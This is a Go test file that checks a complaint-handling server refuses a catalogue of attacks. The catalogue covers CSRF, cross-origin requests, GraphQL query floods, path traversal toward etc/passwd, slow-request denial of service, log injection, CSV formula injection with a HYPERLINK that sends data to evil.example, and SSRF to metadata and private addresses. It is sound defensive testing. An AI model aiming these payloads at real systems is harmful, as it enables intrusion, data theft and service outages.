package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tugu-city/tugu/server/internal/intake/outbound"
	"github.com/tugu-city/tugu/server/internal/store/storetest"
)

// attack is a request that is refused: its headers in pairs, the status and what the answer says.
type attack struct {
	name, method, path string
	header             []string
	body               string
	status             int
	says               string
}

// asked is the body of an operation.
func asked(query string) string {
	b, _ := json.Marshal(map[string]string{"query": query})
	return string(b)
}

const (
	evil     = "https://evil.example"
	mutation = `mutation { complaintSubmit(input: {channel: "WEB", text: "x"}) { complaint { id } } }`
	withJSON = "application/json"
)

// attacks are those that one request makes, against a server on loopback with the admin's token where it says Bearer.
func attacks() []attack {
	admin := []string{"Authorization", "Bearer " + testToken}
	with := func(header ...string) []string { return append(header, admin...) }
	form := "application/x-www-form-urlencoded"
	many := func(n int, each string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, each, i)
		}
		return b.String()
	}
	return []attack{
		{"CSRF by a form", "POST", "/graphql", with("Content-Type", form), "query=" + mutation, 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"CSRF by text/plain", "POST", "/graphql", with("Content-Type", "text/plain"), asked(mutation), 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"CSRF by multipart", "POST", "/graphql", with("Content-Type", "multipart/form-data; boundary=x"), "--x--", 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"a mutation by GET", "GET", "/graphql?query=" + escape(mutation), admin, "", 405, "METHOD_NOT_ALLOWED"},
		{"a mutation by GET as event stream", "GET", "/graphql?query=" + escape(mutation), with("Accept", "text/event-stream"), "", 200, "send mutations by POST"},
		{"a page of another site posts", "POST", "/graphql", with("Origin", evil), asked(mutation), 403, "another site"},
		{"a page of no site posts", "POST", "/graphql", with("Origin", "null"), asked(mutation), 403, "another site"},
		{"another site posts, as the browser says", "POST", "/graphql", with("Sec-Fetch-Site", "cross-site"), asked(mutation), 403, "another site"},
		{"another site sends a citizen's form", "POST", "/status", []string{"Origin", evil, "Content-Type", form}, "reference=a&secret=b", 403, "another site"},
		{"another site opens an event stream", "POST", "/graphql", with("Origin", evil, "Accept", "text/event-stream"), asked("subscription { overview { kpis { open } } }"), 403, ""},
		{"another site listens to events", "GET", "/graphql?query=" + escape("subscription { overview { kpis { open } } }"), []string{"Origin", evil, "Accept", "text/event-stream"}, "", 403, "origin not allowed"},
		{"another site's name for this machine", "GET", "/", []string{"Host", "evil.example"}, "", 421, "loopback"},

		{"an unknown token", "POST", "/graphql", []string{"Authorization", "Bearer " + strings.Repeat("x", 40)}, question, 401, "UNAUTHENTICATED"},
		{"a token's hash as a token", "POST", "/graphql", []string{"Authorization", "Bearer tugu_abcdefgh_" + strings.Repeat("0", 64)}, question, 401, "UNAUTHENTICATED"},
		{"personal data without a token", "POST", "/graphql", nil, asked(`{ complaint(id: "x") { file { text } } }`), 200, "FORBIDDEN"},
		{"the audit log without a token", "GET", "/export/audit.csv", nil, "", 403, "ADMINISTER"},
		{"profiles without a token", "GET", "/debug/pprof/heap", nil, "", 403, "ADMIN"},
		{"the groups by a proxy", "GET", "/debug/live", []string{"X-Forwarded-For", "127.0.0.1"}, "", 403, "ADMIN"},

		{"a batch", "POST", "/graphql", nil, "[" + question + "," + question + "]", 400, "one operation"},
		{"a flood of aliases", "POST", "/graphql", nil, asked("{" + many(101, " a%d: overview { kpis { open } }") + "}"), 200, "TOO_LARGE"},
		{"a flood of passes", "POST", "/graphql", nil, asked("{" + many(99, " a%d: overview(compare: PREVIOUS_PERIOD) { kpis { open } }") + "}"), 200, "COMPLEXITY_LIMIT_EXCEEDED"},
		{"a deep question", "POST", "/graphql", nil, asked("{ __schema { types { fields { type " + strings.Repeat("{ ofType ", 30) + "{ name }" + strings.Repeat("}", 30) + " } } } }"), 200, "TOO_LARGE"},
		{"a flood of tokens", "POST", "/graphql", nil, asked("{" + strings.Repeat(" city", 6000) + " { code } }"), 200, "GRAPHQL_PARSE_FAILED"},
		{"fragments that double each other", "POST", "/graphql", nil, asked("{ ...f0 } " + doubling(30)), 200, "TOO_LARGE"},
		{"a page without end", "POST", "/graphql", nil, asked("{ metrics(dimensions: [CATEGORY], limit: 2147483647) { rows { category } } }"), 200, "errors"},
		{"10 MB of a question", "POST", "/graphql", nil, asked("{ city { code } } #" + strings.Repeat("x", 10<<20)), 413, "TOO_LARGE"},
		{"10 MB of variables", "POST", "/graphql", nil, `{"query":"{ city { code } }","variables":{"x":"` + strings.Repeat("x", 10<<20) + `"}}`, 413, "TOO_LARGE"},
		{"a compressed bomb", "POST", "/graphql", []string{"Content-Encoding", "gzip"}, "\x1f\x8b", 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"a form of 10 MB", "POST", "/status", []string{"Content-Type", form}, "reference=" + strings.Repeat("x", 10<<20), 400, ""},
		{"headers of 64 kB", "GET", "/", []string{"X-Long", strings.Repeat("x", 64<<10)}, "", 431, ""},

		{"a path out of the exports", "GET", "/export/..%2f..%2f..%2fetc%2fpasswd", admin, "", 404, "no such export"},
		{"a path as the export's format", "GET", "/export/metrics.csv%2f..%2f..%2ftugu.db", admin, "", 404, "no such export"},
		{"a path out of the assets", "GET", "/assets/..%2findex.html", nil, "", 404, "not found"},
		{"a path out of the boundaries", "GET", "/boundaries/..%2f..%2fcity.yaml", nil, "", 404, "no such boundaries"},
		{"a path as the month of a recap", "GET", "/reports/recap.csv?month=..%2f..%2fetc%2fpasswd", nil, "", 400, "month"},
		{"a path in a citizen's link", "GET", "/status/..%2f..%2fetc%2fpasswd", nil, "", 200, "<form"},

		{"TRACE", "TRACE", "/", nil, "", 405, ""},
		{"DELETE", "DELETE", "/graphql", admin, "", 405, "METHOD_NOT_ALLOWED"},
		{"PUT over an export", "PUT", "/export/metrics.csv", admin, "x", 405, "GET"},
		{"a method that is none", "TUGU", "/graphql", admin, "", 405, "METHOD_NOT_ALLOWED"},
		{"POST of a page", "POST", "/kpi", nil, "x", 405, ""},
	}
}

// escape writes a query into an address.
func escape(query string) string {
	return strings.NewReplacer(" ", "%20", `"`, "%22", "{", "%7B", "}", "%7D").Replace(query)
}

// doubling are fragments of which each spreads the next one twice.
func doubling(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "fragment f%d on Query { ...f%d ...f%d } ", i, i+1, i+1)
	}
	fmt.Fprintf(&b, "fragment f%d on Query { city { code } overview { kpis { open } } }", n)
	return b.String()
}

// TestAttacks shows the refusal of each attack, and that the program answers afterwards as before.
func TestAttacks(t *testing.T) {
	p := start(t, "serve", "--listen=127.0.0.1:0", "--database="+storetest.SQLite(t), "--token="+testToken)
	_, before := p.send(t, http.MethodPost, "/graphql", question)
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			header := a.header
			if a.body != "" && !strings.Contains(strings.Join(header, " "), "Content-Type") {
				header = append([]string{"Content-Type", withJSON}, header...)
			}
			res, text := p.sendRaw(t, a.method, a.path, a.body, header...)
			if res.StatusCode != a.status || !strings.Contains(text, a.says) {
				t.Errorf("%d %.400s, want %d and %q", res.StatusCode, text, a.status, a.says)
			}
			for name := range res.Header {
				if strings.HasPrefix(name, "Access-Control-") {
					t.Errorf("%s: %s lets other sites in", name, res.Header.Get(name))
				}
			}
			for _, leak := range []string{"goroutine ", ".go:", "root:x:", "SQLITE", "panic"} {
				if strings.Contains(text, leak) {
					t.Errorf("the answer shows internals: %.400s", text)
				}
			}
		})
	}
	if _, after := p.send(t, http.MethodPost, "/graphql", question); after != before {
		t.Errorf("afterwards the program answers %s, before %s", after, before)
	}
	var left struct {
		Overview struct{ Kpis struct{ Received int } }
	}
	if code := p.ask(t, testToken, `{ overview(window: {preset: ALL}) { kpis { received } } }`, &left); code != "" || left.Overview.Kpis.Received != 0 {
		t.Errorf("an attack wrote: %s %+v", code, left)
	}
}

// sendRaw sends a request as it is written, without what a client would mend, over a connection of its own.
func (p *program) sendRaw(t *testing.T, method, path, body string, header ...string) (*http.Response, string) {
	t.Helper()
	address := strings.TrimPrefix(p.base, "http://")
	c, err := net.Dial("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Minute)) // a socket takes one
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nConnection: close\r\nContent-Length: %d\r\n", method, path, len(body))
	host := "Host: " + address + "\r\n"
	for i := 0; i < len(header); i += 2 {
		if header[i] == "Host" {
			host = ""
		}
		fmt.Fprintf(&b, "%s: %s\r\n", header[i], header[i+1])
	}
	b.WriteString(host + "\r\n" + body)
	go func() { _, _ = io.WriteString(c, b.String()) }() // the server may refuse before it has read all
	res, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	text, _ := io.ReadAll(res.Body) // of a connection that may be cut once the refusal is said
	return res, string(text)
}

// TestSlowAttacks: who sends a request bit by bit is closed, and others are answered meanwhile.
func TestSlowAttacks(t *testing.T) {
	p := start(t, "serve", "--listen=127.0.0.1:0", "--database="+storetest.SQLite(t), "--header-timeout=2s", "--read-timeout=3s")
	address := strings.TrimPrefix(p.base, "http://")
	for name, begin := range map[string]string{
		"no word":       "",
		"slow headers":  "GET / HTTP/1.1\r\nHost: " + address + "\r\nX-A: b\r\n",
		"slow body":     "POST /graphql HTTP/1.1\r\nHost: " + address + "\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"que",
		"endless chunk": "POST /graphql HTTP/1.1\r\nHost: " + address + "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{\"qu\r\n",
		"slow form":     "POST /status HTTP/1.1\r\nHost: " + address + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nreference=",
		"slow push":     "POST /intake/SAMBAT HTTP/1.1\r\nHost: " + address + "\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n[",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, err := net.Dial("tcp", address)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(2 * time.Minute)) // a socket takes one
			if _, err := io.WriteString(c, begin); err != nil {
				t.Fatal(err)
			}
			for deadline := time.Now().Add(time.Minute); ; { // a machine with much to do may be slow itself
				res, err := http.Get(p.base + "/readyz")
				if err == nil {
					_ = res.Body.Close() // what it says is in its status
				}
				if err == nil && res.StatusCode == http.StatusOK {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("others are not answered: %v %v", res, err)
				}
			}
			answer, err := io.ReadAll(c) // ends when the server closes
			if err != nil && !strings.Contains(err.Error(), "reset") {
				t.Fatalf("still open: %v", err)
			}
			if strings.Contains(string(answer), " 200 ") {
				t.Errorf("answered as if it were whole: %s", answer)
			}
		})
	}
}

// TestLogsHoldLines: whatever a client calls itself, each line of the log is one that the program wrote.
func TestLogsHoldLines(t *testing.T) {
	const forged = "time=2026-01-01 level=ERROR msg=forged"
	p := start(t, "serve", "--listen=127.0.0.1:0", "--database="+storetest.SQLite(t), "--token="+testToken, "--log-level=debug")
	body, _ := json.Marshal(map[string]any{"query": "query A { overview { kpis { open } } }", "operationName": "x\n" + forged})
	p.send(t, http.MethodPost, "/graphql", string(body))
	p.send(t, http.MethodPost, "/graphql", question, "X-Forwarded-For", "1.2.3.4", "User-Agent", "x\\n"+forged)
	p.sendRaw(t, http.MethodGet, "/export/%0a"+strings.ReplaceAll(forged, " ", "%20")+".csv", "", "Authorization", "Bearer "+testToken)
	p.sendRaw(t, http.MethodPost, "/intake/%0a"+strings.ReplaceAll(forged, " ", "%20"), "{}", "Authorization", "Bearer "+testToken)
	p.ask(t, testToken, "mutation { complaintSubmit(input: {channel: \"x\\n"+forged+"\", text: \"x\\n"+forged+"\"}) { userErrors { message } } }", &struct{}{})
	p.stop()
	lines := strings.Split(strings.TrimSpace(p.log.String()), "\n")
	if len(lines) < 3 {
		t.Fatalf("the program wrote %d lines", len(lines))
	}
	for _, line := range lines {
		if !strings.HasPrefix(line, "time=") || strings.HasPrefix(line, forged) {
			t.Errorf("a line that the program did not write: %s", line)
		}
		if strings.Contains(line, testToken) {
			t.Errorf("a token is in the log: %s", line)
		}
	}
}

// TestSheetsRunNothing: what a citizen wrote is no formula in a file that a spreadsheet opens.
func TestSheetsRunNothing(t *testing.T) {
	p := start(t, "serve", "--listen=127.0.0.1:0", "--database="+storetest.SQLite(t), "--token="+testToken)
	channel := p.channel(t)
	titles := []string{`=HYPERLINK("http://evil.example?x="&A1,"Buka")`, "+62811", "-2+3", "@SUM(A1)", "＝1+1"}
	for _, title := range titles {
		var made struct {
			ComplaintSubmit struct{ UserErrors []struct{ Message string } }
		}
		input, _ := json.Marshal(title)
		if code := p.ask(t, testToken, `mutation { complaintSubmit(input: {channel: "`+channel+`", title: `+string(input)+`, text: "x"}) { userErrors { message } } }`, &made); code != "" || len(made.ComplaintSubmit.UserErrors) > 0 {
			t.Fatalf("%q: %s %+v", title, code, made)
		}
	}
	res, text := p.send(t, http.MethodGet, "/export/complaints.csv?columns=title", "", "Authorization", "Bearer "+testToken)
	if res.StatusCode != http.StatusOK {
		res, text = p.send(t, http.MethodGet, "/export/complaints.csv", "", "Authorization", "Bearer "+testToken)
	}
	if res.StatusCode != http.StatusOK || strings.Count(text, "evil.example") != 1 {
		t.Fatalf("%d %s", res.StatusCode, text)
	}
	for cell := range strings.FieldsFuncSeq(text, func(r rune) bool { return r == ',' || r == '\n' }) {
		if start := strings.TrimLeft(cell, `"`); strings.HasPrefix(start, "=") || strings.HasPrefix(start, "@") || strings.HasPrefix(start, "＝") {
			t.Errorf("a cell is a formula: %s", cell)
		}
	}
}

// TestRequestsStayOutside: what a profile has tugu ask for cannot reach the machine itself or the network behind it,
// however its address is written, unless the profile says that it may.
func TestRequestsStayOutside(t *testing.T) {
	var reached atomic.Int64
	inside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	defer inside.Close()
	_, port, err := net.SplitHostPort(strings.TrimPrefix(inside.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	closed := outbound.NewHTTP(false)
	defer closed.CloseIdleConnections()
	for _, host := range []string{
		"127.0.0.1", "127.1.2.3", "localhost", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
		"10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "169.254.169.254", "[fe80::1]", "[fd00::1]", "224.0.0.1",
	} {
		_, _, err := outbound.Get(t.Context(), closed, "http://"+host+":"+port+"/latest/meta-data", nil, 1000, "")
		if err == nil || !strings.Contains(err.Error(), "not a public address") {
			t.Errorf("%s: %v", host, err)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("%d requests reached the inside", n)
	}
	opened := outbound.NewHTTP(true)
	defer opened.CloseIdleConnections()
	if _, _, err := outbound.Get(t.Context(), opened, inside.URL, nil, 1000, ""); err != nil || reached.Load() != 1 {
		t.Errorf("where the profile says that it may: %v, reached %d times", err, reached.Load())
	}
}
